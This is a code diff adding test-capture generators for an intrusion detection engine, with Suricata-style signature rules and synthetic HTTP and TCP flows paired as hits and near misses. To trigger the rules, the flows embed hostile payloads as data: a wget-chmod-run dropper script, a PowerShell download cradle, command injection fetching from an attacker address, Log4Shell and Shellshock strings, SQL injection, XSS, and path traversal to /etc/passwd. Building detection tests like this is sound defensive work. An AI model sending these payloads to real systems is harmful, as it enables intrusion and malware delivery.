@@ -1595,6 +1595,339 @@ BAD_SETS = {
 }
 
 
+# ---------------------------------------------------------------------------
+# The payload window: rulesets/sig/payload.rules (every payload keyword)
+# and etlike.rules (rules written the way ET Open writes them for these
+# cases), and the default set's file-delivery, web-attack and check-in
+# rules (rules/default) on captures of their own.
+
+def pe_file(rng, size=6000, dll=False, pe64=False):
+    """A Windows PE file's first bytes: MZ header, e_lfanew, PE header."""
+    b = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
+    b += b"\x00" * (0x3c - len(b)) + struct.pack("<I", 0x80)
+    b += b"\x00" * (0x40 - len(b)) + b"This program cannot be run in DOS mode.\r\r\n$"
+    b += b"\x00" * (0x80 - len(b))
+    b += b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664 if pe64 else 0x14c, 3, 0, 0, 0,
+                                     0xf0 if pe64 else 0xe0,
+                                     0x2102 if dll else 0x0102)
+    b += struct.pack("<H", 0x20b if pe64 else 0x10b)
+    b += rb(rng, size - len(b))
+    return bytes(b)
+
+
+def elf_file(rng, size=3000):
+    return b"\x7fELF\x01\x01\x01\x00" + b"\x00" * 8 + \
+        struct.pack("<HHI", 2, 3, 1) + rb(rng, size - 24)
+
+
+def http_rsp(body, ctype="application/octet-stream", status="200 OK",
+             extra=""):
+    return ("HTTP/1.1 %s\r\nServer: nginx\r\nContent-Type: %s\r\n"
+            "Content-Length: %d\r\n%sConnection: close\r\n\r\n"
+            % (status, ctype, len(body), extra)).encode() + body
+
+
+def http_req(host, path, method="GET", ua=gf.UA_FIREFOX, body=b"",
+             version="1.1"):
+    hdr = "%s %s HTTP/%s\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n" % (
+        method, path, version, host, ua)
+    if body:
+        hdr += "Content-Type: application/x-www-form-urlencoded\r\n" \
+               "Content-Length: %d\r\n" % len(body)
+    return (hdr + "\r\n").encode() + body
+
+
+def web(n, t, cli, srv, host, path, rsp, sport=80, method="GET",
+        ua=gf.UA_FIREFOX, body=b"", close=True):
+    """One HTTP exchange on its own connection."""
+    return n.tcp(t, cli, srv, sport,
+                 [(True, http_req(host, path, method, ua, body)),
+                  (False, rsp)], close=close)
+
+
+SIG_RULES["payload.rules"] = r"""# The payload window: HTTP buffers, pkt_data, file.data, filemagic,
+# relative content, isdataat, pcre R and the window's limit
+alert http any any -> 198.18.140.0/24 any (msg:"PAY http.uri normalised"; http.uri; content:"/admin/config.php"; startswith; sid:100601;)
+alert http any any -> 198.18.141.0/24 any (msg:"PAY http.uri.raw"; http.uri.raw; content:"%2e%2e/"; nocase; sid:100602;)
+alert http any any -> 198.18.142.0/24 any (msg:"PAY http.method with bsize"; http.method; content:"PUT"; bsize:3; sid:100603;)
+alert http 198.18.143.0/24 any -> any any (msg:"PAY http.stat_code, a to_client rule written from the server's side"; flow:to_client; http.stat_code; content:"404"; sid:100604;)
+alert http any any -> 198.18.144.0/24 any (msg:"PAY http.content_type"; http.content_type; content:"application/x-msdownload"; sid:100605;)
+alert http any any -> 198.18.145.0/24 any (msg:"PAY http.request_line"; http.request_line; content:"POST /upload.php HTTP/1.0"; bsize:25; sid:100606;)
+alert tcp any any -> 198.18.146.0/24 9100 (msg:"PAY pkt_data distance within"; flow:to_server; content:"VGL1"; depth:4; content:"CMD="; distance:4; within:8; sid:100607;)
+alert tcp any any -> 198.18.147.0/24 9101 (msg:"PAY isdataat relative"; flow:to_server; content:"HDR|00|"; depth:4; isdataat:!8,relative; sid:100608;)
+alert tcp any any -> 198.18.148.0/24 9102 (msg:"PAY pcre relative"; flow:to_server; content:"user="; pcre:"/^[a-z]{3}\d{2}&/R"; sid:100609;)
+alert http 198.18.149.0/24 any -> $HOME_NET any (msg:"PAY file.data MZ PE"; flow:established,to_client; file.data; content:"MZ"; within:2; content:"PE|00 00|"; distance:0; sid:100610;)
+alert tcp 198.18.150.0/24 any -> $HOME_NET any (msg:"PAY filemagic ELF over plain TCP"; flow:to_client; filemagic:"ELF 32-bit"; sid:100611;)
+alert http any any -> 198.18.151.0/24 any (msg:"PAY filemagic PDF in an HTTP body"; filemagic:"PDF document"; sid:100612;)
+alert tcp 198.18.152.0/24 9103 -> any any (msg:"PAY window limit"; flow:to_client; content:"DEEPTOKEN"; sid:100613;)
+alert tcp any any -> 198.18.153.0/24 9104 (msg:"PAY nocase hex"; content:"|de ad|BEEF"; nocase; sid:100614;)
+alert http any any -> 198.18.154.0/24 any (msg:"PAY legacy http_uri modifier"; content:"/cgi-bin/"; http_uri; content:".sh"; http_uri; distance:0; sid:100615;)
+alert http any any -> 198.18.155.0/24 any (msg:"PAY pcre U flag"; pcre:"/\.php\?id=\d+$/U"; sid:100616;)
+alert tcp 198.18.156.0/24 9105 -> any any (msg:"PAY full window still decides"; flow:to_client; content:"STREAMHEAD"; depth:10; sid:100617;)
+"""
+
+SIG_RULES["etlike.rules"] = r"""# Rules written the way ET Open writes them for these cases (own text,
+# Suricata syntax, loaded as they are)
+alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ETLIKE POLICY PE EXE or DLL Windows file download HTTP"; flow:established,to_client; http.stat_code; content:"200"; file.data; content:"MZ"; within:2; content:"PE|00 00|"; distance:0; classtype:policy-violation; sid:100701; rev:1;)
+alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ETLIKE WEB_SERVER Possible SQL Injection Attempt UNION SELECT"; flow:established,to_server; content:"UNION"; nocase; http_uri; content:"SELECT"; nocase; http_uri; distance:0; pcre:"/UNION\s+SELECT/Ui"; classtype:web-application-attack; sid:100702; rev:1;)
+alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ETLIKE WEB_SERVER Possible SQL Injection Attempt SELECT FROM"; flow:established,to_server; http.uri; content:"SELECT"; nocase; content:"FROM"; nocase; distance:0; pcre:"/SELECT\b.+\bFROM/i"; classtype:web-application-attack; sid:100703; rev:1;)
+alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ETLIKE INFO Executable Retrieved With Minimal HTTP Headers From Dotted Quad"; flow:established,to_server; http.uri; content:".exe"; nocase; endswith; http.host; pcre:"/^(?:\d{1,3}\.){3}\d{1,3}(:\d+)?$/"; classtype:bad-unknown; sid:100704; rev:1;)
+"""
+
+PAYLOAD_HOME = "192.168.10.0/24"
+
+
+def gen_sig_payload():
+    hit = Cap("sig_payload.pcap", "sig", t0=20 * DAY,
+              note="payload window: every HTTP buffer, pkt_data with "
+                   "distance/within, isdataat, pcre R, file.data, filemagic "
+                   "in HTTP and plain TCP, nocase hex, legacy modifiers, "
+                   "ET-style rules; a full window decides before the flow "
+                   "ends")
+    neg = Cap("sig_payload_neg.pcap", "sig", t0=21 * DAY,
+              note="near misses of every payload rule, and a token just "
+                   "past the 2 KiB window")
+    h, m = Net(hit, 601), Net(neg, 602)
+    rng = h.rng
+    t = [0.0]
+
+    def T():
+        t[0] += 1.0
+        return t[0]
+    ok = http_rsp(b"<html>ok</html>\n", "text/html")
+    # 100601: the normalised URI
+    f = web(h, T(), CLI, "198.18.140.5", "a.example", "/static/../admin/%63onfig.php?x=1", ok)
+    hit.sig(f, 100601)
+    web(m, T(), CLI, "198.18.140.5", "a.example", "/admin/config.phtml.bak/../x", ok)
+    # 100602: the raw URI
+    f = web(h, T(), CLI, "198.18.141.5", "a.example", "/files/%2E%2E/secret", ok)
+    hit.sig(f, 100602)
+    web(m, T(), CLI, "198.18.141.5", "a.example", "/files/../secret", ok)
+    # 100603: method
+    f = web(h, T(), CLI, "198.18.142.5", "a.example", "/dav/x", ok, method="PUT", body=b"x=1")
+    hit.sig(f, 100603)
+    web(m, T(), CLI, "198.18.142.5", "a.example", "/dav/x", ok, method="PUTX", body=b"x=1")
+    # 100604: status code; a to_client rule names the server first (the
+    # alert keeps the flow's orientation: src is the client)
+    f = web(h, T(), CLI, "198.18.143.5", "a.example", "/gone", http_rsp(b"nf", "text/plain", "404 Not Found"))
+    hit.sig(f, 100604)
+    web(m, T(), CLI, "198.18.143.5", "a.example", "/here", ok)
+    # 100605: content type
+    f = web(h, T(), CLI, "198.18.144.5", "a.example", "/t.bin",
+            http_rsp(rb(rng, 300), "application/x-msdownload"))
+    hit.sig(f, 100605)
+    web(m, T(), CLI, "198.18.144.5", "a.example", "/t.bin", http_rsp(rb(rng, 300)))
+    # 100606: request line
+    f2 = h.tcp(T(), CLI, "198.18.145.5", 80,
+               [(True, http_req("a.example", "/upload.php", "POST", body=b"a=b", version="1.0")),
+                (False, ok)])
+    hit.sig(f2, 100606)
+    m.tcp(T(), CLI, "198.18.145.5", 80,
+          [(True, http_req("a.example", "/upload.php5", "POST", body=b"a=b", version="1.0")),
+           (False, ok)])
+    # 100607: pkt_data, relative content
+    f = h.tcp(T(), CLI, "198.18.146.5", 9100, [(True, b"VGL1\x00\x01\x02\x03CMD=run\n"),
+                                              (False, b"OK\n")])
+    hit.sig(f, 100607)
+    m.tcp(T(), CLI, "198.18.146.5", 9100, [(True, b"VGL1\x00\x01\x02\x03ABCDEFGHCMD=run\n"),
+                                          (False, b"OK\n")])
+    m.tcp(T(), CLI, "198.18.146.5", 9100, [(True, b"XVGL1\x00\x01\x02\x03ACMD=run\n"),
+                                          (False, b"OK\n")])
+    # 100608: isdataat
+    f = h.tcp(T(), CLI, "198.18.147.5", 9101, [(True, b"HDR\x00short"), (False, b"OK\n")])
+    hit.sig(f, 100608)
+    m.tcp(T(), CLI, "198.18.147.5", 9101, [(True, b"HDR\x00muchlonger"), (False, b"OK\n")])
+    # 100609: pcre R
+    f = h.tcp(T(), CLI, "198.18.148.5", 9102, [(True, b"login user=bob42&pw=x"), (False, b"OK\n")])
+    hit.sig(f, 100609)
+    m.tcp(T(), CLI, "198.18.148.5", 9102, [(True, b"login user=bobby42&pw=x"), (False, b"OK\n")])
+    # 100610 + 100701 (ET-style): a Windows PE over HTTP
+    f = web(h, T(), CLI, "198.18.149.5", "dl.example", "/setup.exe",
+            http_rsp(pe_file(rng)))
+    hit.sig(f, 100610)
+    hit.sig(f, 100701)
+    web(m, T(), CLI, "198.18.149.5", "dl.example", "/readme.txt",
+        http_rsp(b"MZ is not a PE header, " + rb(rng, 400), "text/plain"))
+    # 100611: ELF straight over TCP
+    f = h.tcp(T(), CLI, "198.18.150.5", 4444, [(True, b"x86\n"), (False, elf_file(rng))])
+    hit.sig(f, 100611)
+    m.tcp(T(), CLI, "198.18.150.5", 4444, [(True, b"x86\n"), (False, rb(rng, 3000))])
+    # 100612: PDF in an HTTP body
+    f = web(h, T(), CLI, "198.18.151.5", "a.example", "/doc",
+            http_rsp(b"%PDF-1.7\n" + rb(rng, 800), "application/pdf"))
+    hit.sig(f, 100612)
+    web(m, T(), CLI, "198.18.151.5", "a.example", "/doc",
+        http_rsp(b"<p>%PDF-1.7</p>" + rb(rng, 800), "text/html"))
+    # 100613: the window's limit (2 KiB per direction)
+    near = b"x" * 1500 + b"DEEPTOKEN" + b"y" * 3000
+    far = b"x" * 2100 + b"DEEPTOKEN" + b"y" * 3000
+    f = h.tcp(T(), CLI, "198.18.152.5", 9103, [(True, b"GIVE\n"), (False, near)])
+    hit.sig(f, 100613)
+    m.tcp(T(), CLI, "198.18.152.5", 9103, [(True, b"GIVE\n"), (False, far)])
+    # 100614: nocase and hex bytes
+    f = h.tcp(T(), CLI, "198.18.153.5", 9104, [(True, b"\xde\xadbeef!"), (False, b"OK\n")])
+    hit.sig(f, 100614)
+    m.tcp(T(), CLI, "198.18.153.5", 9104, [(True, b"\xde\xacbeef!"), (False, b"OK\n")])
+    # 100615: legacy modifiers
+    f = web(h, T(), CLI, "198.18.154.5", "a.example", "/cgi-bin/status.sh", ok)
+    hit.sig(f, 100615)
+    web(m, T(), CLI, "198.18.154.5", "a.example", "/cgi.sh/cgi-bin/", ok)
+    # 100616: pcre /U
+    f = web(h, T(), CLI, "198.18.155.5", "a.example", "/item.php?id=42", ok)
+    hit.sig(f, 100616)
+    web(m, T(), CLI, "198.18.155.5", "a.example", "/item.php?id=42&x", ok)
+    # 100617: a stream that fills its window decides then, not at its end
+    # (the connection stays open for an hour of packet time)
+    t0 = T()
+    f = h.tcp(t0, CLI, "198.18.156.5", 9105,
+              [(True, b"START\n"), (False, b"STREAMHEAD" + rb(rng, 5000))], close=False)
+    f.data(t0 + 3600, False, b"tail")
+    hit.sig(f, 100617, max_ts=hit.t0_us / 1e6 + t0 + 60)
+    m.tcp(T(), CLI, "198.18.156.5", 9105,
+          [(True, b"START\n"), (False, b"xSTREAMHEAD" + rb(rng, 5000))])
+    return [hit, neg]
+
+
+def gen_sig_etlike():
+    """ET-style rules on inbound web attacks and dotted-quad downloads
+    (home network: the 192.168.10.0/24 office)."""
+    hit = Cap("sig_etlike.pcap", "sig", t0=22 * DAY,
+              note="ET-style rules: SQL injection in URIs (legacy and "
+                   "sticky forms), executable from a dotted quad")
+    neg = Cap("sig_etlike_neg.pcap", "sig", t0=23 * DAY,
+              note="near misses of the ET-style rules")
+    h, m = Net(hit, 701), Net(neg, 702)
+    t = [0.0]
+
+    def T():
+        t[0] += 1.0
+        return t[0]
+    ok = http_rsp(b"<html>ok</html>\n", "text/html")
+    srv, atk = "192.168.10.80", "198.51.100.66"
+    f = web(h, T(), atk, srv, "intranet.example", "/news.php?id=1%20UNION%20SELECT%20user,pass%20FROM%20users", ok)
+    hit.sig(f, 100702)
+    hit.sig(f, 100703)
+    web(m, T(), atk, srv, "intranet.example", "/news.php?title=union-select-guide", ok)
+    web(m, T(), srv, atk, "outside.example", "/news.php?id=1%20UNION%20SELECT%20x", ok)
+    f = web(h, T(), CLI, "198.51.100.67", "198.51.100.67", "/a/stage2.EXE", http_rsp(b"x" * 100))
+    hit.sig(f, 100704)
+    web(m, T(), CLI, "198.51.100.67", "files.example", "/a/stage2.exe", http_rsp(b"x" * 100))
+    return [hit, neg]
+
+
+def gen_default_payload():
+    """rules/default's payload rules, one flow each, and their near misses."""
+    hit = Cap("default_payload.pcap", "rules/default", t0=30 * DAY,
+              note="rules/default: executables and scripts over clear-text "
+                   "HTTP with severity by context, web attacks on a home "
+                   "server, clear-text check-ins")
+    neg = Cap("default_payload_neg.pcap", "rules/default", t0=31 * DAY,
+              note="rules/default near misses: the same files over HTTPS-"
+                   "like opaque TCP or from update hosts, harmless URIs, "
+                   "outbound requests that look like attacks")
+    h, m = Net(hit, 801), Net(neg, 802)
+    rng = h.rng
+    t = [0.0]
+
+    def T():
+        t[0] += 1.0
+        return t[0]
+    ok = http_rsp(b"<html>ok</html>\n", "text/html")
+    pc, srv = "192.168.10.31", "192.168.10.80"
+    ip1, ip2 = "203.0.113.50", "203.0.113.51"
+
+    def sig(f, sid, sev, cap=hit, **kw):
+        return cap.sig(f, sid, severity=sev, **kw)
+
+    def sig_rev(f, sid, sev, cap=hit):
+        # to_client rules: the alert keeps the flow's orientation
+        return cap.sig(f, sid, severity=sev)
+    # executables
+    f = web(h, T(), pc, ip1, ip1, "/x/inv.exe", http_rsp(pe_file(rng)))
+    sig(f, 2100060, 1)
+    f = web(h, T(), pc, ip2, "cdn.badfiles.example:8888", "/u.bin",
+            http_rsp(pe_file(rng, dll=True)), sport=8888)
+    sig(f, 2100061, 1)
+    f = web(h, T(), pc, ip2, "tools.example.org", "/putty.exe",
+            http_rsp(pe_file(rng, pe64=True)))
+    sig(f, 2100062, 3)
+    f = web(h, T(), pc, ip2, "img.example.org", "/logo.png",
+            http_rsp(pe_file(rng), "image/png"))
+    sig(f, 2100062, 3)
+    sig(f, 2100063, 1)
+    f = web(h, T(), pc, ip1, ip1, "/bins/mips", http_rsp(elf_file(rng)))
+    sig(f, 2100064, 1)
+    f = web(h, T(), pc, ip2, "mirror.example.org", "/tool", http_rsp(elf_file(rng)))
+    sig(f, 2100065, 2)
+    f = web(h, T(), pc, ip1, ip1, "/i.sh",
+            http_rsp(b"#!/bin/sh\ncd /tmp; wget http://203.0.113.50/bins/mips; chmod +x mips; ./mips\n",
+                     "text/plain"))
+    sig(f, 2100066, 1)
+    f = web(h, T(), pc, ip2, "cdn.example.org", "/update.ps1",
+            http_rsp(b"$ErrorActionPreference = 'SilentlyContinue'\r\nIEX (New-Object Net.WebClient)"
+                     b".DownloadString('http://x/y')\r\n", "text/plain"))
+    sig(f, 2100067, 2)
+    f = web(h, T(), pc, ip1, ip1, "/invoice.pdf",
+            http_rsp(b"%PDF-1.5\n" + rb(rng, 1200), "application/pdf"))
+    sig(f, 2100068, 2)
+    f = h.tcp(T(), pc, ip1, 4444, [(True, b"\x00\x00\x00\x01"), (False, pe_file(rng))])
+    sig(f, 2100069, 2)
+    # web attacks on the home server
+    atk = "198.51.100.99"
+    f = web(h, T(), atk, srv, "www.office.example", "/news.php?id=-1%20UNION%20ALL%20SELECT%201,2,3--", ok)
+    sig(f, 2100070, 2)
+    f = web(h, T(), atk, srv, "www.office.example", "/login.php?user=admin%27%20OR%20%271%27=%271", ok)
+    sig(f, 2100071, 2)
+    f = web(h, T(), atk, srv, "www.office.example", "/item?id=1%20AND%20SLEEP(5)", ok)
+    sig(f, 2100072, 2)
+    f = web(h, T(), atk, srv, "www.office.example", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ok)
+    sig(f, 2100073, 2)
+    f = web(h, T(), atk, srv, "www.office.example", "/download?file=..%2f..%2f..%2fboot.cfg", ok)
+    sig(f, 2100074, 2)
+    f = web(h, T(), atk, srv, "www.office.example", "/cgi-bin/view?f=/etc/passwd", ok)
+    sig(f, 2100075, 2)
+    f = web(h, T(), atk, srv, "www.office.example", "/ping.php?host=1.1.1.1;wget%20http://198.51.100.99/x", ok)
+    sig(f, 2100076, 2)
+    f = web(h, T(), atk, srv, "www.office.example", "/?x=${jndi:ldap://198.51.100.99/a}", ok)
+    sig(f, 2100077, 1)
+    f = web(h, T(), atk, srv, "www.office.example", "/", ok,
+            ua="${${lower:j}ndi:ldap://198.51.100.99/a}")
+    sig(f, 2100078, 1)
+    sig(f, 2100047, 1)     # nDPI: Possible Exploit Detected (Log4J)
+    sig(f, 2100051, 3)     # nDPI: HTTP Suspicious User-Agent
+    f = web(h, T(), atk, srv, "www.office.example", "/cgi-bin/status", ok,
+            ua="() { :;}; /bin/bash -c 'id'")
+    sig(f, 2100079, 2)
+    sig(f, 2100051, 3)
+    # check-ins
+    f = web(h, T(), pc, ip1, ip1 + ":8443", "/gate.php", ok, sport=8443, method="POST",
+            body=b"id=4f2a&os=win10&av=none")
+    sig(f, 2100080, 2)
+    f = web(h, T(), pc, ip2, "tracker.example.org", "/dl", ok,
+            ua="Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1")
+    sig(f, 2100083, 2)
+
+    # ---- near misses
+    web(m, T(), pc, ip2, "download.windowsupdate.com", "/c/msdownload/kb.exe",
+        http_rsp(pe_file(rng)))
+    web(m, T(), pc, ip2, "tools.example.org", "/putty.zip",
+        http_rsp(b"PK\x03\x04" + rb(rng, 900), "application/zip"))
+    web(m, T(), pc, ip1, ip1, "/x/readme.txt", http_rsp(b"MZ is a text file " + rb(rng, 300), "text/plain"))
+    m.tcp(T(), pc, ip1, 443, [(True, b"\x16\x03\x01" + rb(rng, 200)), (False, rb(rng, 3000))])
+    web(m, T(), pc, ip2, "mirror.example.org", "/tool.tar", http_rsp(rb(rng, 2000), "application/x-tar"))
+    web(m, T(), atk, srv, "www.office.example", "/news.php?id=7&title=union-and-select-committees", ok)
+    web(m, T(), atk, srv, "www.office.example", "/login.php?user=o%27brien", ok)
+    web(m, T(), atk, srv, "www.office.example", "/search?q=javascript%20tutorial", ok)
+    web(m, T(), atk, srv, "www.office.example", "/docs/v1.2..3/index.html", ok)
+    web(m, T(), atk, srv, "www.office.example", "/etc/passwords-policy.html", ok)
+    web(m, T(), atk, srv, "www.office.example", "/ping.php?host=wget.example.org", ok)
+    web(m, T(), atk, srv, "www.office.example", "/?x=$jndi", ok)
+    web(m, T(), pc, ip2, "www.example.org", "/news.php?id=1%20UNION%20SELECT%201", ok)  # outbound
+    web(m, T(), pc, ip1, ip1 + ":8443", "/gate.php", ok, sport=8443)       # GET, not POST
+    web(m, T(), pc, ip1, ip1, "/gate.php", ok, method="POST", body=b"a=b")  # port 80
+    return [hit, neg]
+
+
 def write_rulesets(outdir):
     """Write every rule set directory; returns rules_check truth."""
     rs = os.path.join(outdir, "rulesets")
@@ -1646,7 +1979,8 @@ def main():
     outdir = sys.argv[1] if len(sys.argv) > 1 else "tests/detect"
     os.makedirs(outdir, exist_ok=True)
     caps = gen_sig_header() + gen_sig_options() + gen_sig_app() + \
-        gen_sig_buffers() + gen_sig_threshold() + gen_ioc() + gen_behav()
+        gen_sig_buffers() + gen_sig_threshold() + gen_sig_payload() + \
+        gen_sig_etlike() + gen_default_payload() + gen_ioc() + gen_behav()
     sup = gen_suppress()
     benign = gen_benign()
     caps += [sup, benign]
